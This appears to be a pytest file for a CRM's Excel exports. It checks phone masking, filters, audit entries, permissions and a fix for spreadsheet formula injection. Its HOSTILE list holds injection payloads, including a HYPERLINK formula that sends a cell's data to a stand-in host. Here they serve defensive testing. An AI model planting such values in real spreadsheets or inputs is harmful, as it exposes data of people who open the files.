import io

import sqlalchemy as sa
from openpyxl import load_workbook

from crm.audit.models import AuditEntry
from crm.extensions import db
from crm.instructors.models import Instructor


def sheet_rows(response) -> list[tuple]:
    book = load_workbook(io.BytesIO(response.data), read_only=True)
    return [tuple(row) for row in book.active.iter_rows(values_only=True)]


def test_exports_mask_phones_for_reviewers_and_not_for_admins(app, client, auth, world):
    with app.app_context():
        phone = db.session.get(Instructor, world.instructor_a).phone
    auth.login("reviewer-zg")
    rows = sheet_rows(client.get("/transfer/export/instructors.xlsx"))
    assert rows[0][:4] == ("姓名", "用户名", "县市区", "手机号码")
    assert [r[1] for r in rows[1:]] == ["zdy-a"]  # the district reviewer's district only
    assert rows[1][3] == f"{phone[:3]}****{phone[-4:]}"
    auth.logout()
    auth.login("admin")
    rows = sheet_rows(client.get("/transfer/export/instructors.xlsx"))
    assert sorted(r[1] for r in rows[1:]) == ["zdy-a", "zdy-b"]
    assert phone in {r[3] for r in rows[1:]}


def test_exports_keep_the_page_filters_and_are_audited(app, client, auth, world):
    auth.login("admin")
    every = sheet_rows(client.get("/transfer/export/branches.xlsx"))
    agency = sheet_rows(client.get("/transfer/export/branches.xlsx?sector=agency"))
    assert len(every) == 4  # header + branches a, b and the agency branch
    assert [r[1] for r in agency[1:]] == ["机关企事业单位党组织"]
    with app.app_context():
        exports = (
            db.session.execute(sa.select(AuditEntry.summary).where(AuditEntry.action == "export"))
            .scalars()
            .all()
        )
    assert exports == ["党组织 3 行 ", "党组织 1 行 sector=agency"]


def test_instructors_cannot_export(client, auth, world):
    auth.login("zdy-a")
    assert client.get("/transfer/export/branches.xlsx").status_code == 403


HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A3,"点击查看")', "+1+1", "-2+3", "@SUM(1,1)",
           "\t=1+1", "\r=1+1"]  # fmt: skip


def formulas_in(body: bytes) -> list[str]:
    """The formula cells of a workbook, read from its XML as Excel would."""
    import re
    import zipfile

    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return [
            match
            for name in archive.namelist() if name.startswith("xl/worksheets/")
            for match in re.findall(r"<f>(.*?)</f>", archive.read(name).decode())
        ]  # fmt: skip


def test_no_export_turns_text_into_a_formula(app, client, auth, world):
    """Issue 18.12: a name typed as =HYPERLINK(…) became a live formula in every export. Every
    text that would start a formula is written as text with Excel's quote prefix."""
    with app.app_context():
        from tests import factories as f

        for number, text in enumerate(HOSTILE):
            f.OrganizationFactory(name=text, district=f.district("章贡区"))
            f.BranchFactory(name=f"{text}党支部{number}", district=f.district("章贡区"))
        db.session.commit()
    auth.login("admin")
    for name in ("organizations", "branches"):
        response = client.get(f"/transfer/export/{name}.xlsx")
        assert formulas_in(response.data) == [], name
        book = load_workbook(io.BytesIO(response.data))
        texts = {
            c.value for row in book.active.iter_rows() for c in row if isinstance(c.value, str)
        }
        assert any(t.startswith("=HYPERLINK") for t in texts), name  # kept, as text
        cells = [c for row in book.active.iter_rows() for c in row
                 if isinstance(c.value, str) and c.value.startswith(("=", "+", "@"))]  # fmt: skip
        assert cells
        assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    auth.logout()
    auth.login("auditor")
    audit_export = client.get("/audit/export.xlsx")
    assert audit_export.status_code == 200
    assert formulas_in(audit_export.data) == []
